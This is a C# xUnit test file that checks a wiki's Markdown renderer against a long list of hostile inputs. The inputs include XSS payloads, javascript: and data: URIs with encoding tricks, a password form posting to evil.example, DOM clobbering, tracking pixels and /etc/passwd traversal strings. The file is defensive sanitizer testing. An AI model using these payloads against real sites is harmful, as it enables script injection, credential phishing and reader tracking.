using AngleSharp.Html.Parser;

namespace Roots.Wiki.Adapters.Tests.Rendering;

/// <summary>What people try in order to run script, to fish for passwords, to cover the page or to learn who reads: none of it may leave the renderer.</summary>
public sealed class AttackTests
{
    private static readonly HashSet<string> Tags = [.. "h1 h2 h3 h4 h5 h6 p ul ol li blockquote pre code a img span div section input table thead tbody tr th td br wbr hr details summary kbd sub sup mark ins del s u b i em strong small abbr cite q samp var".Split(' ')];
    private static readonly HashSet<string> Attributes = [.. "href src alt title class id start type checked disabled role tabindex aria-label aria-labelledby loading rel".Split(' ')];

    private static readonly string[] Scripts =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<body onload=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src onerror=alert(1)>", "<math href=\"javascript:alert(1)\">x</math>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example/>",
        "<style>@import '//evil.example'</style>", "<style>body{display:none}</style>", "<p style=\"position:fixed;top:0\">x</p>", "<div style=\"background:url(//evil.example)\">x</div>", "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<details open ontoggle=alert(1)>", "<details ontoggle=alert(1)><summary>x</summary></details>", "<b onclick=alert(1)>x</b>", "<mark onmouseover=alert(1)>x</mark>", "<br onclick=x>", "<kbd style=x>k</kbd>",
        "<video src=x onerror=alert(1)></video>", "<audio src=//evil.example autoplay>", "<source src=x>", "<picture><img src=//evil.example></picture>", "<marquee onstart=alert(1)>x</marquee>", "<xmp><script>alert(1)</script></xmp>", "<plaintext>", "<textarea>x</textarea>", "<title>x</title>",
        "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml <script>alert(1)</script>?>", "<!DOCTYPE x [<!ENTITY a 'b'>]>", "<custom-element onclick=x>", "<dialog open>x</dialog>", "<slot name=x>", "<portal src=//evil.example>",
    ];

    private static readonly string[] Forms =
    [
        "<form action=//evil.example><input name=password type=password><button>OK</button></form>", "<input type=text>", "<input type=checkbox>", "<button formaction=//evil.example>x</button>", "<select><option>x</select>", "<textarea name=x></textarea>", "<label for=x>x</label>", "<fieldset><legend>x</legend></fieldset>",
        "<isindex action=//evil.example>", "<output name=x>", "<keygen>", "<details><form><input></form></details>", "<b><form action=x></b>", "<div contenteditable>x</div>", "<a href=x ping=//evil.example>x</a>", "<a href=https://evil.example target=_blank>x</a>",
    ];

    private static readonly string[] Clobbering =
    [
        "<a id=cookie>x</a>", "<img name=body>", "<form name=document><input name=cookie></form>", "<a name=location href=x>x</a>", "<p id=main>x</p>", "<b id=h-x>x</b>", "<i class=modal>x</i>", "<sup id=fn-1>x</sup>", "# x {#main onclick=alert(1)}", "# x {onclick=alert(1)}", "x {onclick=alert(1) .modal #main}", "![x](a.png){onerror=alert(1)}",
        "# x {#\"><script>alert(1)</script>}", "# \"><img src=x onerror=alert(1)>", "# <b id=x>x</b> {#a}", "## `\"onclick=alert(1)` x", "# ' onclick='x", "# __proto__", "# constructor {#constructor}", "[^\"onclick=x]\n\n[^\"onclick=x]: y", "[^<b>]\n\n[^<b>]: <script>alert(1)</script>",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "java&NewLine;script:alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "java%73cript:alert(1)", "javascript%3Aalert(1)",
        "\u0001javascript:alert(1)", "&#1;javascript:alert(1)", "javascript://%0aalert(1)", "vbscript:msgbox(1)", "VBScript:x", "livescript:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "DATA:text/html,x", "data&colon;text/html,x",
        "file:///etc/passwd", "blob:https://x/y", "filesystem:x", "about:blank", "chrome://settings", "ms-word:ofe|u|x", "intent://x#Intent;end", "ftp://evil.example", "//evil.example", "\\\\evil.example", "/\\evil.example", "///evil.example", "\\/evil.example", "https:evil.example", "http:", "view-source:x", "jar:https://x!/", "feed:javascript:alert(1)", "x-javascript:alert(1)",
        "person:k3v9x2m7qa\"onclick=x", "person:../../x", "person:", "person:<script>", "PERSON:k3v9x2m7qa", "a\"onmouseover=\"alert(1)", "a'onmouseover='alert(1)", "a`onmouseover=alert(1)", "a&quot;onmouseover=&quot;alert(1)", "a<script>", "a.png\"onerror=\"alert(1)", "~000000000000000000000000~0~", "#\"onclick=\"x", "#<script>", "../../../../etc/passwd", "?x=<script>", "mailto:x@y?subject=\"><script>",
    ];

    private static readonly string[] Places =
    [
        "| a |\n| - |\n| <script>alert(1)</script> |", "| a |\n| - |\n| [x](javascript:alert(1)) |", "| <img src=x onerror=alert(1)> |\n| - |\n| x |", "> [!NOTE]\n> <script>alert(1)</script>", "> [!\"><script>]\n> x", "> [!NOTE onclick=x]\n> x", "- [ ] <script>alert(1)</script>", "- [x] \"onclick=\"alert(1)", "- [ ] [x](javascript:alert(1))",
        "[[\"onclick=\"alert(1)]]", "[[<script>alert(1)</script>]]", "[[x|<img src=x onerror=alert(1)>]]", "[[javascript:alert(1)]]", "[[javascript:alert(1)|x]]", "![[x.png|\"onerror=\"alert(1)]]", "![[javascript:alert(1)]]", "[[x\"onclick=\"y.pdf]]", "![\"onerror=\"alert(1)](x.png)", "![<script>](x.png '\"onerror=\"alert(1)')", "[x](y '\"onclick=\"alert(1)')", "[x](y \"<script>\")", "[<script>alert(1)</script>](person:k3v9x2m7qa)",
        "[x]: javascript:alert(1)\n\n[x]", "[x]: y '\"onclick=\"z'\n\n[x]", "<javascript:alert(1)>", "<data:text/html,x>", "<x@y.z\"onclick=x>", "www.x.example\"onclick=x", "https://x.example/\"onmouseover=alert(1)", "https://x.example/<script>", "```\"onclick=x\n</code><script>alert(1)</script>\n```", "`</code><script>alert(1)</script>`", "    </pre><script>alert(1)</script>",
        "a[^1]\n\n[^1]: [x](javascript:alert(1)) <img src=x onerror=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\<script>alert(1)\\</script>", "---\ntitle: <script>\n---\n<script>alert(1)</script>", "![x](https://evil.example/pixel.png)", "![x](//evil.example/pixel.png)", "[![x](https://evil.example/p.png)](javascript:alert(1))", "<b><i><u><b><i>x", "</div></section></main><script>", "{{constructor.constructor('alert(1)')()}}<b v-on:click=x>", "<sub><table><td><script>x", "*<b*onclick=x>", "[a](<javascript:alert(1)>)", "[a](<b c>\"d\")",
    ];

    public static TheoryData<string> Payloads =>
        [.. Scripts, .. Scripts.Select(s => $"Text {s} Text"), .. Forms, .. Clobbering, .. Addresses.SelectMany(a => new[] { $"[x]({a})", $"![x]({a})", $"[x](<{a}>)", $"<a href=\"{a}\">x</a>", $"[[{a}]]" }), .. Places];

    [Theory]
    [MemberData(nameof(Payloads))]
    public async Task Nothing_harmful_leaves_the_renderer(string markdown)
    {
        var html = await Rendered.HtmlAsync(markdown, "kasse");

        var document = new HtmlParser().ParseDocument($"<main>{html}</main>");
        foreach (var element in document.QuerySelectorAll("main *"))
        {
            Assert.True(Tags.Contains(element.LocalName), $"<{element.LocalName}> in {html}");
            Assert.All(element.Attributes, a => Assert.True(Attributes.Contains(a.Name), $"{a.Name} in {html}"));
            Assert.Matches("^((h|fn)-[\\p{L}\\p{N}-]+)?$", element.Id ?? "");
            Assert.True(element.LocalName != "input" || (element.GetAttribute("type") == "checkbox" && element.HasAttribute("disabled")), html);
            Assert.True(element.LocalName != "img" || IsInside(element.GetAttribute("src")), html);
            Assert.True(element.GetAttribute("href") is not { } href || IsInside(href) || IsOutside(href), html);
            Assert.True(element.GetAttribute("href") is not { } link || !link.StartsWith("http", StringComparison.OrdinalIgnoreCase) || element.GetAttribute("rel") == "nofollow noopener noreferrer", html);
        }
    }

    [Fact]
    public void The_list_of_attacks_is_long_and_its_check_bites()
    {
        Assert.True(Payloads.Count >= 150);
        Assert.False(IsInside("//evil.example"));
        Assert.False(IsOutside("javascript:alert(1)"));
    }

    [Fact]
    public async Task A_mark_that_the_page_itself_bears_is_no_hole()
    {
        var fragment = await Rendered.FragmentAsync("~000000000000000000000000~0~ <a href=\"~000000000000000000000000~0~\">x</a>");

        Assert.Empty(fragment.Holes);
    }

    private static bool IsInside(string? address) => address is not null && (address.StartsWith('#') || (address.StartsWith('/') && !address.StartsWith("//", StringComparison.Ordinal) && !address.StartsWith("/\\", StringComparison.Ordinal)));

    private static bool IsOutside(string address) => address.StartsWith("http://", StringComparison.OrdinalIgnoreCase) || address.StartsWith("https://", StringComparison.OrdinalIgnoreCase)
        || address.StartsWith("mailto:", StringComparison.OrdinalIgnoreCase) || address.StartsWith("tel:", StringComparison.OrdinalIgnoreCase);
}
